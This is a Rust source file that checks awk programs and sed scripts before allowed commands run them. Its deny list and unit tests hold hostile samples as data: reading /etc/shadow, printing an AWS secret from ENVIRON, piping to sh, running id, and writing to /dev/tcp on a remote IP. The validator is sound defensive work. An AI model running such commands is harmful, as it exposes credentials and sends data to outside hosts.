//! Validators for the small programs some allowed commands take as an argument: `awk` programs
//! and `sed` scripts. Both are judged strictly: anything that could run a command, write a
//! file or read a file the policy did not see is refused, even at the cost of refusing some
//! harmless programs.

/// Why an awk program or sed script given to an allowed command was refused (the policy's
/// reason after "value `...`").
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ScriptError {
    /// An awk word that runs commands, reads files or exposes the environment.
    #[error("{0}")]
    AwkWord(&'static str),
    #[error("awk string is not terminated (missing `\"`)")]
    AwkString,
    #[error("awk regex is not terminated (missing `/`)")]
    AwkRegex,
    #[error("awk pipes (`|`) run shell commands")]
    AwkPipe,
    #[error(
        "awk output redirection (`print > file`) writes files; to compare inside print, put the \
         comparison in parentheses"
    )]
    AwkRedirect,
    #[error("gawk `@` directives and indirect calls are not allowed")]
    AwkDirective,
    #[error("sed script ends after an address without a command")]
    SedNoCommand,
    #[error("sed `{0}` command is incomplete")]
    SedIncomplete(char),
    #[error("sed `s` needs a delimiter")]
    SedDelimiter,
    #[error("sed `s///e` executes the pattern space as a command")]
    SedSubstExec,
    #[error("sed `s///w` writes to a file")]
    SedSubstWrite,
    #[error("sed `s` flag `{0}` is not allowed")]
    SedFlag(char),
    #[error("sed `e` executes a command")]
    SedExec,
    #[error("sed `w` writes to a file")]
    SedWrite,
    #[error("sed `r` reads a file the policy did not check")]
    SedRead,
    #[error("sed `{0}` (text insertion) is not allowed; use `p`")]
    SedInsert(char),
    #[error("sed command `{0}` is not allowed; only printing (p, =, l), d, q, s and y")]
    SedCommand(char),
    #[error("unexpected `{found}` after sed command `{command}`")]
    SedTrailing { found: char, command: char },
    #[error("sed address is incomplete")]
    SedAddress,
    #[error("newline inside a sed regex or replacement")]
    SedNewline,
    #[error("unterminated sed expression (missing `{0}`)")]
    SedUnterminated(char),
}

/// Check an awk program. `Err` carries the reason.
///
/// The program is tokenised the way awk reads it: string literals, regex literals (a `/` where
/// an operand is expected starts a regex, elsewhere it divides) and comments are skipped, so a
/// `|` inside `/a|b/` or an `@` inside `"user@host"` is text. Outside them, `|` (a pipe to or
/// from a command) and `@` (gawk directives, indirect calls) are refused, and `>`/`>>` are
/// refused only where awk reads them as output redirection: in a `print`/`printf` statement
/// at the statement's own parenthesis depth (`print $1 > "f"`), never in a comparison
/// (`$3 > 100`, `if (n > 0) print n`, `print (a > b)`).
pub fn check_awk(program: &str) -> Result<(), ScriptError> {
    const DENIED_WORDS: &[(&str, &str)] = &[
        ("system", "awk `system()` runs a shell command"),
        ("getline", "awk `getline` can read from commands and files"),
        ("ENVIRON", "awk `ENVIRON` exposes the environment (secrets)"),
        ("PROCINFO", "gawk `PROCINFO` is not allowed"),
        (
            "ARGV",
            "changing awk `ARGV` reads files the policy did not check",
        ),
        (
            "ARGC",
            "changing awk `ARGC` reads files the policy did not check",
        ),
    ];
    /// Words after which a `/` starts a regex rather than dividing.
    const REGEX_AFTER: &[&str] = &["print", "printf", "return", "case", "in", "do", "else"];
    let b: Vec<char> = program.chars().collect();
    let n = b.len();
    // Was the last significant token an operand (so `/` divides)?
    let mut operand = false;
    let mut depth = 0usize;
    // Parenthesis depth of the `print`/`printf` statement being read.
    let mut print_at: Option<usize> = None;
    let mut i = 0usize;
    while i < n {
        let c = b[i];
        if c.is_ascii_alphabetic() || c == '_' {
            let start = i;
            while i < n && (b[i].is_ascii_alphanumeric() || b[i] == '_') {
                i += 1;
            }
            let word: String = b[start..i].iter().collect();
            if let Some((_, why)) = DENIED_WORDS.iter().find(|(w, _)| *w == word) {
                return Err(ScriptError::AwkWord(why));
            }
            if word == "print" || word == "printf" {
                print_at = Some(depth);
            }
            operand = !REGEX_AFTER.contains(&word.as_str());
            continue;
        }
        if c.is_ascii_digit() || (c == '.' && b.get(i + 1).is_some_and(|d| d.is_ascii_digit())) {
            while i < n && (b[i].is_ascii_alphanumeric() || b[i] == '.') {
                i += 1;
            }
            operand = true;
            continue;
        }
        match c {
            '"' => {
                i = skip_quoted(&b, i + 1, '"').ok_or(ScriptError::AwkString)?;
                operand = true;
                continue;
            }
            '/' if !operand => {
                i = skip_quoted(&b, i + 1, '/').ok_or(ScriptError::AwkRegex)?;
                operand = true;
                continue;
            }
            '#' => {
                while i < n && b[i] != '\n' {
                    i += 1;
                }
                continue;
            }
            '|' => {
                if b.get(i + 1) == Some(&'|') {
                    i += 2;
                    operand = false;
                    continue;
                }
                return Err(ScriptError::AwkPipe);
            }
            '>' => {
                if b.get(i + 1) == Some(&'=') {
                    i += 2;
                    operand = false;
                    continue;
                }
                if print_at == Some(depth) {
                    return Err(ScriptError::AwkRedirect);
                }
            }
            '@' => return Err(ScriptError::AwkDirective),
            '(' | '[' => depth += 1,
            ')' | ']' => depth = depth.saturating_sub(1),
            // A line continues after `\`, `,`, `&&` and `||`.
            '\\' if b.get(i + 1) == Some(&'\n') => i += 1,
            '\n' if !matches!(last_significant(&b[..i]), Some(',' | '&' | '|' | '\\')) => {
                print_at = None
            }
            ';' | '{' | '}' => print_at = None,
            _ => {}
        }
        operand = match c {
            ')' | ']' | '$' => true,
            // `x++ / 2`: increments keep the operand.
            '+' | '-' if b.get(i + 1) == Some(&c) => {
                i += 1;
                operand
            }
            c if c.is_whitespace() => operand,
            _ => false,
        };
        i += 1;
    }
    Ok(())
}

fn last_significant(b: &[char]) -> Option<char> {
    b.iter().rev().copied().find(|c| *c != ' ' && *c != '\t')
}

/// Skip a string or regex literal body starting at `i` (after the opening quote); returns the
/// index after the closing `end`, or `None` when it is not terminated on its line.
fn skip_quoted(b: &[char], mut i: usize, end: char) -> Option<usize> {
    while i < b.len() {
        match b[i] {
            '\\' => i += 2,
            '\n' => return None,
            c if c == end => return Some(i + 1),
            _ => i += 1,
        }
    }
    None
}

/// Check a sed script: only addresses and the printing/deleting/quitting commands and `s`/`y`
/// without the `e` or `w` flags. Anything else (`e`, `w`, `W`, `r`, `R`, `a`, `i`, `c`, labels,
/// in-place editing via the script) is refused.
pub fn check_sed(script: &str) -> Result<(), ScriptError> {
    let b: Vec<char> = script.chars().collect();
    let mut i = 0usize;
    let n = b.len();
    for _ in 0..n + 1 {
        // Skip separators.
        while i < n && (b[i].is_whitespace() || b[i] == ';') {
            i += 1;
        }
        if i >= n {
            return Ok(());
        }
        // Addresses.
        i = sed_address(&b, i)?;
        while i < n && b[i].is_whitespace() {
            i += 1;
        }
        if i < n && b[i] == ',' {
            i += 1;
            while i < n && b[i].is_whitespace() {
                i += 1;
            }
            if i < n && (b[i] == '+' || b[i] == '~') {
                i += 1;
            }
            i = sed_address(&b, i)?;
        }
        while i < n && b[i].is_whitespace() {
            i += 1;
        }
        if i < n && b[i] == '!' {
            i += 1;
        }
        while i < n && b[i].is_whitespace() {
            i += 1;
        }
        if i >= n {
            return Err(ScriptError::SedNoCommand);
        }
        let cmd = b[i];
        i += 1;
        match cmd {
            'p' | 'd' | '=' | 'l' | 'n' | 'N' | 'P' | 'D' | 'h' | 'H' | 'g' | 'G' | 'x' | '{'
            | '}' => {}
            'q' | 'Q' => {
                while i < n && (b[i].is_ascii_digit() || b[i] == ' ') {
                    i += 1;
                }
            }
            's' => {
                let delim = *b.get(i).ok_or(ScriptError::SedIncomplete('s'))?;
                if delim == '\\' || delim == '\n' {
                    return Err(ScriptError::SedDelimiter);
                }
                i += 1;
                for _part in 0..2 {
                    i = sed_until(&b, i, delim)?;
                }
                // Flags.
                while i < n && !matches!(b[i], ';' | '\n' | '}') && !b[i].is_whitespace() {
                    match b[i] {
                        'g' | 'p' | 'i' | 'I' | 'm' | 'M' => {}
                        c if c.is_ascii_digit() => {}
                        'e' => return Err(ScriptError::SedSubstExec),
                        'w' | 'W' => return Err(ScriptError::SedSubstWrite),
                        c => return Err(ScriptError::SedFlag(c)),
                    }
                    i += 1;
                }
            }
            'y' => {
                let delim = *b.get(i).ok_or(ScriptError::SedIncomplete('y'))?;
                i += 1;
                for _part in 0..2 {
                    i = sed_until(&b, i, delim)?;
                }
            }
            'e' => return Err(ScriptError::SedExec),
            'w' | 'W' => return Err(ScriptError::SedWrite),
            'r' | 'R' => return Err(ScriptError::SedRead),
            'a' | 'i' | 'c' => return Err(ScriptError::SedInsert(cmd)),
            other => return Err(ScriptError::SedCommand(other)),
        }
        if cmd == '{' {
            continue;
        }
        // After a command: end, separator, or a closing brace.
        while i < n && b[i] == ' ' {
            i += 1;
        }
        if i < n && !matches!(b[i], ';' | '\n' | '}') {
            return Err(ScriptError::SedTrailing {
                found: b[i],
                command: cmd,
            });
        }
    }
    Ok(())
}

/// Parse one optional sed address starting at `i`; returns the index after it.
fn sed_address(b: &[char], mut i: usize) -> Result<usize, ScriptError> {
    let n = b.len();
    if i >= n {
        return Ok(i);
    }
    if b[i].is_ascii_digit() {
        while i < n && (b[i].is_ascii_digit() || b[i] == '~') {
            i += 1;
        }
        return Ok(i);
    }
    if b[i] == '$' {
        return Ok(i + 1);
    }
    if b[i] == '/' {
        i = sed_until(b, i + 1, '/')?;
        while i < n && (b[i] == 'I' || b[i] == 'M') {
            i += 1;
        }
        return Ok(i);
    }
    if b[i] == '\\' {
        let delim = *b.get(i + 1).ok_or(ScriptError::SedAddress)?;
        i = sed_until(b, i + 2, delim)?;
        while i < n && (b[i] == 'I' || b[i] == 'M') {
            i += 1;
        }
        return Ok(i);
    }
    Ok(i)
}

/// Skip to just past the next unescaped `delim`.
fn sed_until(b: &[char], mut i: usize, delim: char) -> Result<usize, ScriptError> {
    for _ in 0..b.len() + 1 {
        if i >= b.len() {
            break;
        }
        if b[i] == '\\' {
            i += 2;
            continue;
        }
        if b[i] == delim {
            return Ok(i + 1);
        }
        if b[i] == '\n' {
            return Err(ScriptError::SedNewline);
        }
        i += 1;
    }
    Err(ScriptError::SedUnterminated(delim))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn awk_programs() {
        for ok in [
            "{print $1}",
            "$3 > 100 {print $1}",
            "NR > 1 && $2 == \"x\" {n++} END {print n}",
            "/error/ {c++} END {print c+0}",
            "{ s += $5 } END { if (s > 0) print s }",
            "$1 || $2",
            "/GET|POST/ {print $7}",
            "$0 ~ \"a|b\" {n++} END {print n}",
            "{ if ($3 > 100) print $1 }",
            "{ print ($3 > 100) }",
            "{ print $1; if (NR > 5) exit }",
            "$9 >= 500 { print $7 }",
            "{ n = $3 / 2; print n }",
            "{ print \"mail: user@host\" }",
            "NR > 1 { a[$1] += $2 } END { for (k in a) print k, a[k] }",
            "{ x = NR / 2 } /err/ { print x }",
            "# a comment with | and >\n{print}",
            "{ printf(\"%d\\n\", $2 > 0) }",
        ] {
            assert!(check_awk(ok).is_ok(), "{ok}: {:?}", check_awk(ok));
        }
        for bad in [
            "BEGIN{system(\"id\")}",
            "{print > \"/tmp/x\"}",
            "{print $1 >> \"/tmp/x\"}",
            "{print | \"sh\"}",
            "BEGIN{\"id\" | getline x; print x}",
            "BEGIN{while((getline l < \"/etc/shadow\")>0) print l}",
            "BEGIN{print ENVIRON[\"AWS_SECRET\"]}",
            "BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}{print}",
            "@load \"filefuncs\"",
            "BEGIN{f=\"system\"; @f(\"id\")}",
            "{printf \"%s\", $0 > \"/dev/tcp/1.2.3.4/80\"}",
            "{print |& \"cat\"}",
            "{ print $1 > $2 }",
            "{ if (x) print $0 > \"/tmp/y\" }",
            "{ print (\"a\") > \"/tmp/y\" }",
            "{ printf \"%s\", $1 >> \"/tmp/y\" }",
            "/x|y/ { print | \"sh\" }",
            "{ print \"a\" \"b\" > \"/tmp/y\" }",
            "BEGIN { \"unterminated }",
            "{ print 1 / 2 > \"/tmp/x\" }",
            "{ print $1,\n $2 > \"/tmp/x\" }",
            "{ print $1 \\\n > \"/tmp/x\" }",
        ] {
            assert!(check_awk(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn sed_scripts() {
        for ok in [
            "10,20p",
            "-n",
            "$p",
            "/error/p",
            "s/foo/bar/g",
            "s|a|b|",
            "1d;$d",
            "/^#/d",
            "5q",
            "\\,x,p",
            "y/abc/xyz/",
            "/start/,/end/{p}",
            "s/w/e/2",
        ] {
            if ok == "-n" {
                continue;
            }
            assert!(check_sed(ok).is_ok(), "{ok}: {:?}", check_sed(ok));
        }
        for bad in [
            "s/x/id/e",
            "s/x/y/w /tmp/out",
            "w /tmp/out",
            "1e id",
            "r /etc/shadow",
            "R /etc/shadow",
            "1a hello",
            "i\\text",
            "W /tmp/x",
            ":a;b a",
            "s/a/b/;e",
            "p;w /tmp/x",
            "/x/{w /tmp/y\n}",
            "s/a/b/gw /tmp/z",
            "s/a",
        ] {
            assert!(check_sed(bad).is_err(), "{bad}");
        }
    }
}
